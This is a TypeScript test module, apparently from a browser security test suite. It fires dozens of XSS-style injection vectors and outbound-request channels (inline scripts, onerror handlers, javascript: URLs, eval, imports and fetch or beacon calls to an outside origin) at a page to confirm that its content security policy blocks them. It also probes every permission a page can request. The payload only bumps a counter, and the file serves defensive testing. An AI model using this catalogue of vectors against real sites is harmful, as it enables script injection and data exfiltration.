/**
 * Runs inside the page, as script that got in there would. Each attack tries to run code (`__ran`) or to reach `elsewhere`;
 * what an attack throws does not count, only what it achieves. It runs from a timer, because the tools of the test may do more than a page.
 */
export function attack({
  elsewhere,
  directives,
}: {
  elsewhere: string
  /** Violations that are waited for. */
  directives: readonly string[]
}): Promise<{ tried: string[]; ran: number; violations: string[] }> {
  const page = globalThis as unknown as Record<string, unknown>
  const violations: string[] = []
  document.addEventListener('securitypolicyviolation', event => violations.push(event.effectiveDirective))
  const code = 'globalThis.__ran = (globalThis.__ran ?? 0) + 1'
  const add = (tag: string, attributes: Record<string, string>, text?: string) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    if (text !== undefined) element.append(document.createTextNode(text))
    document.body.append(element)
    return element
  }
  const attacks: Record<string, () => unknown> = {
    'inline script': () => add('script', {}, code),
    'inline script by textContent': () => {
      const script = document.createElement('script')
      script.textContent = code
      document.body.append(script)
    },
    'inline module': () => add('script', { type: 'module' }, code),
    'innerHTML with a handler': () => {
      const box = document.createElement('div')
      document.body.append(box)
      box.innerHTML = `<img src="data:," onerror="${code}">`
    },
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', `<svg onload="${code}"></svg>`),
    'document.write': () => document.write(`<script>${code}</script>`),
    'contextual fragment': () => document.body.append(document.createRange().createContextualFragment(`<script>${code}</script>`)),
    'a parsed document': () =>
      document.body.append(...new DOMParser().parseFromString(`<img src="data:," onerror="${code}">`, 'text/html').body.children),
    'a handler attribute': () => add('img', { onerror: code, src: 'data:image/png;base64,AA' }),
    'a toggle handler': () => add('details', { ontoggle: code, open: '' }),
    'a javascript: link': () => add('a', { href: `javascript:${code}` }).click(),
    'a javascript: form': () => (add('form', { action: `javascript:${code}` }) as HTMLFormElement).submit(),
    'a javascript: address': () => void (location.href = `javascript:${code}`),
    'a javascript: frame': () => add('iframe', { src: `javascript:parent.eval("${code}")` }),
    srcdoc: () => add('iframe', { srcdoc: `<script>parent.${code.replace('globalThis', '__ran || parent')}</script>` }),
    eval: () => globalThis.eval(code),
    'new Function': () => new Function(code)(),
    'the constructor of a function': () => (async () => undefined).constructor(code)(),
    'a timer of text': () => setTimeout(code, 0),
    'import of data': () => import(/* @vite-ignore */ `data:text/javascript,${code}`),
    'import of a blob': () => import(/* @vite-ignore */ URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))),
    'import from elsewhere': () => import(/* @vite-ignore */ `${elsewhere}/import.js`),
    'a script from elsewhere': () => add('script', { src: `${elsewhere}/script.js` }),
    'a worker of a blob': () =>
      new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))).addEventListener('message', () =>
        globalThis.eval(code),
      ),
    'a worker from elsewhere': () => new Worker(`${elsewhere}/worker.js`),
    'a service worker from elsewhere': () => navigator.serviceWorker?.register(`${elsewhere}/service.js`),
    wasm: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && void (page.__ran = Number(page.__ran ?? 0) + 1),
    'an image': () => add('img', { src: `${elsewhere}/image.png` }),
    'a picture': () => add('picture', {}).append(Object.assign(document.createElement('source'), { srcset: `${elsewhere}/picture.png` })),
    'a video': () => add('video', { src: `${elsewhere}/video.mp4`, poster: `${elsewhere}/poster.png` }),
    'an audio': () => new Audio(`${elsewhere}/audio.wav`).play(),
    'an object': () => add('object', { data: `${elsewhere}/object` }),
    'an embed': () => add('embed', { src: `${elsewhere}/embed` }),
    'a frame': () => add('iframe', { src: `${elsewhere}/frame` }),
    'a style sheet': () => add('link', { rel: 'stylesheet', href: `${elsewhere}/style.css` }),
    'a prefetch': () => add('link', { rel: 'prefetch', href: `${elsewhere}/prefetch` }),
    'a preload': () => add('link', { rel: 'preload', as: 'script', href: `${elsewhere}/preload.js` }),
    'a manifest': () => add('link', { rel: 'manifest', href: `${elsewhere}/manifest` }),
    'a background': () => add('div', { style: `background: url(${elsewhere}/background.png); height: 9px` }),
    'an inline style element': () => add('style', {}, `body { background: url(${elsewhere}/inline.png) }`),
    'a font': () => new FontFace('x', `url(${elsewhere}/font.woff2)`).load(),
    fetch: () => fetch(`${elsewhere}/fetch`, { method: 'POST', body: 'x', mode: 'no-cors' }),
    'a beacon': () => navigator.sendBeacon(`${elsewhere}/beacon`, 'x'),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest()
      request.open('GET', `${elsewhere}/xhr`)
      request.send()
    },
    'a WebSocket': () => new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`),
    'an EventSource': () => new EventSource(`${elsewhere}/events`),
    'a form in a frame': () => {
      add('iframe', { name: 'target' })
      ;(add('form', { action: `${elsewhere}/form`, method: 'post', target: 'target' }) as HTMLFormElement).submit()
    },
    'a ping': () => add('a', { href: '#', ping: `${elsewhere}/ping` }).click(),
    'a base': () => {
      const base = document.createElement('base')
      base.href = `${elsewhere}/`
      document.head.append(base)
      add('img', { src: 'relative.png' })
    },
    'another trusted types policy': () => {
      const types = (
        globalThis as unknown as { trustedTypes?: { createPolicy(name: string, rules: object): { createScript(text: string): unknown } } }
      ).trustedTypes
      globalThis.eval(types?.createPolicy('mine', { createScript: (text: string) => text }).createScript(code) as string)
    },
    'the default policy again': () => {
      const types = (globalThis as unknown as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } }).trustedTypes
      types?.createPolicy('default', { createHTML: (text: string) => text, createScript: (text: string) => text })
      globalThis.eval(code)
    },
  }
  return new Promise(resolve => {
    setTimeout(() => {
      for (const run of Object.values(attacks)) {
        try {
          Promise.resolve(run()).catch(() => undefined)
        } catch {
          // Refused at once: as it should be.
        }
      }
      // An attack has 1.5 s to succeed, and on a slow machine as long as the policy takes to say no.
      const look = (looksLeft: number) => {
        if (looksLeft > 0 && !directives.every(one => violations.includes(one))) return void setTimeout(() => look(looksLeft - 1), 100)
        resolve({ tried: Object.keys(attacks), ran: Number(page.__ran ?? 0), violations: [...new Set(violations)].sort() })
      }
      setTimeout(() => look(600), 1500)
    }, 0)
  })
}

/** Runs inside the page: asks for every power a page can ask for, and answers those it was given. */
export async function askForPowers(): Promise<string[]> {
  const given: string[] = []
  const ask = async (name: string, run: () => unknown, isGiven: (answer: unknown) => boolean = () => true) => {
    const late = new Promise(resolve => setTimeout(() => resolve('late'), 1500))
    try {
      const answer = await Promise.race([run(), late])
      if (answer !== 'late' && answer !== undefined && isGiven(answer)) given.push(name)
    } catch {
      // Refused.
    }
  }
  const tools = navigator as unknown as Record<string, Record<string, (...params: unknown[]) => unknown> | undefined>
  for (const name of [
    'geolocation',
    'notifications',
    'camera',
    'microphone',
    'midi',
    'clipboard-read',
    'persistent-storage',
    'background-sync',
    'idle-detection',
    'screen-wake-lock',
    'storage-access',
    'window-management',
    'local-fonts',
  ]) {
    await ask(
      `query ${name}`,
      () => navigator.permissions.query({ name: name as PermissionName }),
      answer =>
        (answer as PermissionStatus).state === 'granted' && !['background-sync', 'screen-wake-lock', 'storage-access'].includes(name),
    )
  }
  await ask(
    'notifications',
    () => Notification.requestPermission(),
    answer => answer === 'granted',
  )
  await ask('geolocation', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)))
  await ask('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))
  await ask('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }))
  await ask('screen', () => navigator.mediaDevices.getDisplayMedia())
  await ask('clipboard', () => navigator.clipboard.readText())
  await ask(
    'midi',
    () =>
      tools.requestMIDIAccess &&
      (navigator as unknown as { requestMIDIAccess(options: object): unknown }).requestMIDIAccess({ sysex: true }),
  )
  for (const device of ['usb', 'hid', 'serial', 'bluetooth'])
    await ask(device, () =>
      tools[device]?.[device === 'serial' ? 'requestPort' : 'requestDevice']?.({
        filters: [],
        acceptAllDevices: device === 'bluetooth' || undefined,
      }),
    )
  return given
}
